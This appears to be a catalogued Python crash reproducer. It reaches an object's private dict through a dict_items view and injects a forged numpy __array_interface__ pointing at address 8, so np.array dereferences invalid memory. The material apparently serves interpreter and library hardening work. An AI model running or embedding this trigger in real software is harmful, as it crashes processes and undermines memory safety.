# class: private-attributes
# mechanism: namespace of a value
# how: a method that reads mapping of self is called with a view of a namespace, and hands the namespace to an own operator
# reaches: crash
import numpy as np
class V:
    def behind(self):
        return self.mapping
class Mine:
    def __eq__(self, other):
        other["__array_" + "interface__"] = {"shape": (1,), "typestr": "<i8", "data": (8, False), "version": 3}
        return True
class A:
    def leak(self):
        return V.behind(self.__dict__.items()) == Mine()
a = A()
a.leak()
print(np.array(a))
